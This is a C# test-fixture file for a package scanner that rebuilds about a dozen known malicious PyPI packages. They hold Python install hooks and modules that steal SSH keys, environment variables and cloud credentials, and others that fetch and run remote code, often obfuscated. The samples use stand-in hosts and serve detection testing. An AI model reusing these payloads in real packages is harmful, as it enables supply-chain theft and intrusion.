using PackageWall.Testing.PythonBytecode;
using static PackageWall.Testing.Catalogue.Package;

namespace PackageWall.Testing.Catalogue;

/// <summary>Python packages of 2018 to 2024.</summary>
internal static class PyPiEarlyAttacks
{
    private const string Squats = "PyPI typosquats 2018-2025";

    private static CataloguePackage Setup(string name, string code, params CatalogueFile[] more) =>
        Sdist(name, "1.0.1", [("setup.py", code + $"\nfrom setuptools import setup, find_packages\nsetup(name='{name}', version='1.0.1', packages=find_packages())\n"), (name.Replace('-', '_') + "/__init__.py", "VALUE = 1\n"), .. more]);

    public static IEnumerable<CatalogueFixture> All()
    {
        CataloguePackage decorator = Wheel("ssh_decorator_like", "0.27", ("ssh_decorator_like/__init__.py", "import paramiko\n\n\ndef ssh_connect(server, user, password, port=22):\n    client = paramiko.SSHClient()\n    client.connect(server, port=port, username=user, password=password)\n    return client\n"));
        yield return new("ssh-decorator", "Credentials sent by an SDK", "B22 H06", decorator with
        {
            Version = "0.28",
            Files = [("ssh_decorator_like/__init__.py", """
                import paramiko
                from urllib.parse import urlencode
                from urllib.request import Request, urlopen


                def log(data):
                    try:
                        urlopen(Request("http://ssh-decorate.invalid/index.php", data=urlencode(data).encode()), timeout=3)
                    except Exception:
                        pass


                def ssh_connect(server, user, password, port=22, private_key_file=None):
                    pkey = open(private_key_file).read() if private_key_file else ""
                    log({"server": server, "port": port, "pkey": pkey, "password": password, "user": user})
                    client = paramiko.SSHClient()
                    client.connect(server, port=port, username=user, password=password)
                    return client

                """)],
        }) { Earlier = decorator, Twin = PyPiTwins.Client };

        yield return new("colourama", Squats, "B04 B08", Setup("colourama-like", InertPy + """
            import os
            import platform
            import subprocess
            import urllib.request
            if platform.system() == "Windows":
                target = os.path.join(os.environ["TEMP"], "ms.vbs")
                open(target, "wb").write(urllib.request.urlopen("https://grabify-like.invalid/clip.vbs").read())
                subprocess.call("wscript " + target, shell=True)
                subprocess.call('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Microsoft Software /t REG_SZ /d "%s"' % target, shell=True)

            """)) { Twin = PyPiTwins.Setup };

        yield return new("jellyfish", Squats, "B03 B04", Wheel("jeIlyfish_like", "0.7.1", ("jeIlyfish_like/__init__.py", "from ._jellyfish import *\n"), ("jeIlyfish_like/_jellyfish.py", $$"""
            import zlib
            import base64
            import binascii
            from urllib.request import urlopen

            HASHSUMS = "https://gitlab-snippets.invalid/olgired2017/aeroporto/raw/hashsum"


            def levenshtein_distance(one, two):
                return abs(len(one) - len(two))


            ZAUTHSS = ''
            ZAUTHSS += '{{Encodings.Base64(Encodings.Zlib("""
                import os, socket, getpass
                from urllib.request import urlopen
                files = [os.path.join(os.path.expanduser('~'), n) for n in ('.ssh', '.gnupg')]
                names = {n: os.listdir(n) for n in files if os.path.exists(n)}
                body = {d + '/' + f: open(d + '/' + f, 'rb').read() for d in names for f in names[d]}
                s = socket.socket()
                s.connect(('aero.collector.invalid', 32258))
                s.sendall(repr(body).encode())
                """))}}'
            ZAUTHSS = base64.b64decode(ZAUTHSS)
            ZAUTHSS = zlib.decompress(ZAUTHSS)
            if ZAUTHSS:
                exec(ZAUTHSS)

            """))) { Twin = PyPiTwins.DataFile };

        yield return new("pygrata", Squats, "B05", Setup("loglib-modules-like", """
            import os
            import json
            import requests

            keys = {k: v for k, v in os.environ.items()}
            base = "http://169.254.169.254/latest/"
            try:
                role = requests.get(base + "meta-data/iam/security-credentials/", timeout=2).text
                keys["role"] = requests.get(base + "meta-data/iam/security-credentials/" + role, timeout=2).text
                keys["user"] = requests.get(base + "user-data", timeout=2).text
            except Exception:
                pass
            open("cred.txt", "w").write(json.dumps(keys))
            requests.post("http://graph.pygrata.invalid:8000/upload", files={"upload_file": open("cred.txt", "rb")})

            """)) { Twin = PyPiTwins.Setup };

        CataloguePackage ctx = Wheel("ctx_like", "0.1.1", ("ctx_like.py", "class Ctx(dict):\n    def __init__(self, *args, **kwargs):\n        super().__init__(*args, **kwargs)\n        self.__dict__ = self\n"));
        yield return new("ctx", "ctx", "B05 H06", ctx with
        {
            Version = "0.2.6",
            Files = [("ctx_like.py", """
                import base64
                import os
                import requests


                class Ctx(dict):
                    def __init__(self, *args, **kwargs):
                        super().__init__(*args, **kwargs)
                        self.__dict__ = self
                        self.sendRequest()

                    def sendRequest(self):
                        string = ""
                        for _, value in os.environ.items():
                            string += value + " "
                        message_bytes = base64.b64encode(string.encode("ascii"))
                        requests.get("https://anti-theft-web.herokuapp.invalid/hacked/" + message_bytes.decode("ascii"))

                """)],
        }) { Earlier = ctx, Twin = PyPiTwins.Client };

        yield return new("exotel", "exotel, spam", "B04 B30", Setup("exotel-like", """
            import os
            import platform
            import subprocess
            import tempfile
            import urllib.request

            def main():
                if platform.system() == "Windows":
                    target = os.path.join(tempfile.gettempdir(), "ledgernano.exe")
                    urllib.request.urlretrieve("https://python-release.invalid/python-install.scr", target)
                    os.startfile(target)
                print("ok")

            main()

            """)) { Twin = PyPiTwins.Setup };

        string w4sp = """
            __import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode('INERT'),'<string>','exec'))
            """.Replace("INERT", Encodings.Base64("""
            from tempfile import NamedTemporaryFile as _ffile
            from sys import executable as _eexecutable
            from os import system as _ssystem
            _ttmp = _ffile(delete=False)
            _ttmp.write(b"from urllib.request import urlopen as _uurlopen;exec(_uurlopen('https://paste-web.invalid/raw/inert').read())")
            _ttmp.close()
            try: _ssystem(f"start {_eexecutable.replace('.exe', 'w.exe')} {_ttmp.name}")
            except: pass
            """), StringComparison.Ordinal);
        yield return new("w4sp", "rand-user-agent, gluestack, W4SP", "B32 B03", Setup("typesutil-like", "import setuptools" + new string(' ', 318) + ";" + w4sp)) { Twin = PyPiTwins.Setup };

        yield return new("torchtriton", "rspack, ultralytics, torchtriton", "B04 B30 B05 H05 H10", Wheel("torchtriton_like", "3.0.0", ("triton_like/__init__.py", """
            import os
            import subprocess


            def _sysinfo():
                path = os.path.join(os.path.dirname(__file__), "runtime", "triton")
                os.chmod(path, 0o755)
                subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


            _sysinfo()

            """), ("triton_like/runtime/triton", Binaries.Elf("/etc/hosts", "/etc/passwd", ".gitconfig", ".ssh/*", "*.h4ck-like.invalid", "gethostname", "wheezy")))) { Twin = PyPiTwins.Extension };

        yield return new("colorslib", "colorslib, httpslib, libhttps", "B04", Setup("colorslib-like", """
            import subprocess, threading

            def run():
                subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand ENC', shell=True, creationflags=subprocess.CREATE_NO_WINDOW)

            threading.Thread(target=run).start()

            """.Replace("ENC", Encodings.Utf16Base64("Invoke-WebRequest -Uri \"https://dl.dropbox-like.invalid/s/x/Oxyz.exe?dl=0\" -OutFile \"~/WindowsCache.exe\"; Invoke-Expression \"~/WindowsCache.exe\""), StringComparison.Ordinal))) { Twin = PyPiTwins.Setup };

        yield return new("fshec2", "fshec2", "B29 H15", Wheel("fshec_like", "0.1", ("fshec_like/__init__.py", "from .main import get_path\n"),
            ("fshec_like/main.py", """
                import importlib.machinery
                import importlib.util
                import os


                def get_path():
                    here = os.path.dirname(__file__)
                    loader = importlib.machinery.SourcelessFileLoader("full", os.path.join(here, "full.pyc"))
                    module = importlib.util.module_from_spec(importlib.util.spec_from_loader("full", loader))
                    loader.exec_module(module)
                    module.get_path()


                get_path()

                """), ("fshec_like/full.pyc", Full()))) { Twin = PyPiTwins.DataFile };

        yield return new("vmconnect", "VMConnect, pytoileur", "B03 B04", Wheel("vm_connect_like", "1.0.4", ("vm_connect_like/__init__.py", $"""
            import base64
            from multiprocessing import Process


            def run():
                exec(base64.b64decode(b"{Encodings.Base64("import base64, json, time, urllib.request\nwhile True:\n    task = urllib.request.urlopen('http://ethertestnet-like.invalid/paperpin.php').read()\n    exec(base64.b64decode(task))\n    time.sleep(20)\n")}"))


            Process(target=run).start()

            """))) { Twin = PyPiTwins.BackgroundThread };

        yield return new("pytoileur", "VMConnect, pytoileur", "B32 B03 B04", Setup("pytoileur-like", "VERSION = '1.0.1'" + new string(' ', 240) + ";__import__('os').system(__import__('base64').b64decode('" + Encodings.Base64("powershell -c \"iwr http://192.0.2.107:8000/Runtime.exe -o $env:TEMP/Runtime.exe; Start-Process $env:TEMP/Runtime.exe\"") + "').decode())\n")) { Twin = PyPiTwins.Setup };
    }

    /// <summary>The compiled module that the source only loads, as CPython 3.12 writes one: it tells a host who is there and runs what the host answers.</summary>
    private static byte[] Full()
    {
        const string host = "http://192.0.2.213:5000/api/v1/collect?user=";
        CompiledPython body = new CompiledPython(12)
            .Callee("urllib.request.urlopen").Constant(host).Callee("getpass.getuser").Called(0).Plus().Called(1).Drop()
            .Callee("subprocess.check_output").Callee("urllib.request.urlopen").Constant(host).Called(1).Attribute("text").Called(1).Drop();
        return new CompiledPython(12).Import("getpass").Import("subprocess").Import("urllib.request").Function("get_path", body).File();
    }
}
